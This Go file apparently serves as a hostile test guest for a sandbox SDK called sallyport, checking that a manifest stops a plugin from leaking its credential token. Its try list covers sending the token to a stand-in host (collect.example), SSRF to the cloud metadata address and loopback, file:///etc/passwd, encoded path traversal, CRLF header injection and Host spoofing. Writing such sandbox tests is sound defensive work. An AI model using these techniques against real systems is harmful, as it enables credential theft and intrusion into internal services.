package main

import (
	"context"
	"fmt"
	"net/url"
	"strings"

	sallyport "github.com/sallyport-host/sallyport/guest-sdk/go"
)

// networkTries send requests where they may not go, and its token where that
// may not stand. What the manifest allows is the header Authorization, below
// /public/ of one server.
func networkTries() []try {
	return []try{
		{"elsewhere", "send its token to another origin", send("https://collect.example/", inHeader)},
		{"subdomain", "send its token to a host that begins alike", func(ctx context.Context, t *thief) (string, error) {
			return t.request(ctx, t.base+".collect.example/", inHeader)
		}},
		{"user part", "hide another host behind the server's name", func(ctx context.Context, t *thief) (string, error) {
			host := t.base
			if u, err := url.Parse(t.base); err == nil {
				host = u.Host
			}
			return t.request(ctx, "http://"+host+"@127.0.0.1:22/", inHeader)
		}},
		{"metadata", "call the cloud's metadata service", send("http://169.254.169.254/latest/meta-data/", plain)},
		{"loopback", "call a service on this machine", send("http://127.0.0.1:22/", plain)},
		{"mapped", "call it by an address in disguise", send("http://[::ffff:7f00:1]:22/", plain)},
		{"file url", "call file:///etc/passwd", send("file:///etc/passwd", plain)},
		{"path", "send its token to a path that is not approved", onServer("/admin", inHeader)},
		{"traversal", "reach that path by way of ..", onServer("/public/../admin", inHeader)},
		{"traversal in disguise", "reach it by way of %2e%2e", onServer("/public/%2e%2e/admin", inHeader)},
		{"slash in disguise", "reach it by way of %2f", onServer("/public/..%2fadmin", inHeader)},
		{"method", "send its token by a method that is not approved", onServer("/public/", inDelete)},
		{"url", "put its token into a URL", onServer("/public/?t=", inURL)},
		{"fragment", "put it behind the URL's #", onServer("/public/#", inURL)},
		{"body", "put its token into a body", onServer("/public/", inBody)},
		{"pieces", "put it into a body, piece by piece", onServer("/public/", inPieces)},
		{"wrong header", "put its token into another header", onServer("/public/", inOtherHeader)},
		{"header name", "put its token into a header's name", onServer("/public/", inHeaderName)},
		{"line break", "break out of a header", onServer("/public/", withLineBreak)},
		{"host header", "send another Host header with it", onServer("/public/", withHost)},
	}
}

// place puts the token somewhere in a request.
type place func(req *sallyport.Request, token string)

func plain(*sallyport.Request, string) {}

func inHeader(req *sallyport.Request, token string) {
	req.Header.Set("Authorization", "Bearer "+token)
}

func inDelete(req *sallyport.Request, token string) {
	req.Method = "DELETE"
	inHeader(req, token)
}

func inURL(req *sallyport.Request, token string) { req.URL += token }

func inBody(req *sallyport.Request, token string) {
	req.Method, req.Body = "POST", []byte("token="+token)
}

func inPieces(req *sallyport.Request, token string) {
	req.Method, req.BodyReader = "POST", &pieces{left: token}
}

func inOtherHeader(req *sallyport.Request, token string) { req.Header.Set("X-Note", token) }

func inHeaderName(req *sallyport.Request, token string) { req.Header["X-"+token] = []string{"x"} }

func withLineBreak(req *sallyport.Request, token string) {
	req.Header["Accept"] = []string{"*/*\r\nX-Note: " + token}
}

func withHost(req *sallyport.Request, token string) {
	inHeader(req, token)
	req.Header.Set("Host", "collect.example")
}

// pieces reads a few bytes at a time.
type pieces struct{ left string }

func (p *pieces) Read(b []byte) (int, error) {
	if p.left == "" {
		return strings.NewReader("").Read(b)
	}
	n := copy(b[:min(len(b), 7)], p.left)
	p.left = p.left[n:]
	return n, nil
}

func send(to string, put place) func(context.Context, *thief) (string, error) {
	return func(ctx context.Context, t *thief) (string, error) { return t.request(ctx, to, put) }
}

func onServer(path string, put place) func(context.Context, *thief) (string, error) {
	return func(ctx context.Context, t *thief) (string, error) { return t.request(ctx, t.base+path, put) }
}

// request sends its token. An answer is what it wanted, whatever it says: the
// request went out.
func (t *thief) request(ctx context.Context, to string, put place) (string, error) {
	token, err := t.run.Credential(tokenName)
	if err != nil {
		return "", fmt.Errorf("no token to send: %w", err)
	}
	req := &sallyport.Request{URL: to, Header: sallyport.Header{}}
	put(req, string(token))
	resp, err := sallyport.NewClient(t.run).Do(ctx, req)
	if err != nil {
		return "", err
	}
	return fmt.Sprintf("an answer: %d", resp.StatusCode), resp.Body.Close()
}
